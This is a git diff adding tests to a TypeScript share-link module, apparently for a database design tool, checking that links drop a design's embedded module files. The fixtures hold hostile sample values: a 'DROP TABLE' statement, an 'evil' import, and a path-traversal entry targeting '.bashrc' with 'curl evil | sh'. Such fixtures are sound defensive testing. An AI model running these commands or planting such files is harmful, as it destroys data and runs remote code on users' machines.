@@ -1,7 +1,8 @@
 import { readFileSync } from 'node:fs';
 import fc from 'fast-check';
-import { zlibSync } from 'fflate';
+import { strFromU8, unzlibSync, zlibSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
+import type { Design } from '../core/design';
 import { FORMAT_NAME, FORMAT_VERSION, loadDesign, serializeDesign } from '../core/format';
 import { applyOperation } from '../core/operations';
 import { exampleDesign } from '../core/test-fixtures';
@@ -18,6 +19,7 @@ import {
   shareDataFromHash,
   shareFragment,
   toBase64Url,
+  withoutModuleFiles,
 } from './share-link';
 
 function opened(result: ShareDecodeResult) {
@@ -131,6 +133,73 @@ describe('share links: round trip', () => {
     file.design.tables.t_tasks.columnIds.push('c_missing');
     const result = opened(decodeShare(encodeJson(JSON.stringify(file)).data));
     expect(result.warnings.map((w) => w.path)).toEqual(['$.design.tables.t_tasks.columnIds[7]']);
+  });
+});
+
+/** The example design as if it had been exported: its baseline holds the module's migration and code. */
+function exportedDesign(): Design {
+  return {
+    ...exampleDesign(),
+    baseline: {
+      snapshotId: 'snap-1',
+      tables: { t_tasks: 'MoLOS-Example_tasks' },
+      columns: { c_tasks_title: 'title' },
+      snapshot: { id: 'snap-1' },
+      files: [
+        { path: 'drizzle/0000_init.sql', text: 'DROP TABLE `MoLOS-Example_tasks`;' },
+        { path: 'drizzle/meta/_journal.json', text: '{"entries":[]}' },
+        { path: 'lib/server/db/schema/tables.ts', text: 'import "evil";' },
+      ],
+    },
+  };
+}
+
+/** The JSON a link's data unpacks to. */
+const linkJson = (data: string) => {
+  const raw = fromBase64Url(data);
+  if (!raw.ok) throw new Error(raw.error.message);
+  return strFromU8(unzlibSync(raw.bytes));
+};
+
+describe('share links: never the module files', () => {
+  it('leaves the module files out of a link and keeps the rest of the baseline', () => {
+    const design = exportedDesign();
+    const json = linkJson(encodeDesign(design).data);
+    expect(json).not.toContain('"files"');
+    expect(json).not.toContain('DROP TABLE');
+    expect(json).not.toContain('evil');
+    const back = opened(decodeShare(encodeDesign(design).data)).design;
+    expect(back.baseline).toEqual({
+      snapshotId: 'snap-1',
+      tables: { t_tasks: 'MoLOS-Example_tasks' },
+      columns: { c_tasks_title: 'title' },
+      snapshot: { id: 'snap-1' },
+    });
+    expect(back).toEqual(withoutModuleFiles(design));
+    // The design itself is untouched.
+    expect(design.baseline?.files).toHaveLength(3);
+  });
+
+  it('drops module files from a link that carries them, without an error', () => {
+    const made = JSON.stringify({ format: FORMAT_NAME, formatVersion: FORMAT_VERSION, design: exportedDesign() });
+    expect(made).toContain('DROP TABLE');
+    const result = opened(decodeShare(encodeJson(made).data));
+    expect(result.warnings).toEqual([]);
+    expect(result.design.baseline).toEqual({
+      snapshotId: 'snap-1',
+      tables: { t_tasks: 'MoLOS-Example_tasks' },
+      columns: { c_tasks_title: 'title' },
+      snapshot: { id: 'snap-1' },
+    });
+    expect(result.design).toEqual({ ...exampleDesign(), baseline: result.design.baseline });
+  });
+
+  it('opens a link whose module files are not even valid, without them', () => {
+    const file = JSON.parse(serializeDesign(exportedDesign()));
+    file.design.baseline.files = [{ path: '../../.bashrc', text: 'curl evil | sh' }, 42];
+    const result = opened(decodeShare(encodeJson(JSON.stringify(file)).data));
+    expect(result.design.baseline && 'files' in result.design.baseline).toBe(false);
+    expect(result.design.baseline?.snapshotId).toBe('snap-1');
   });
 });
 
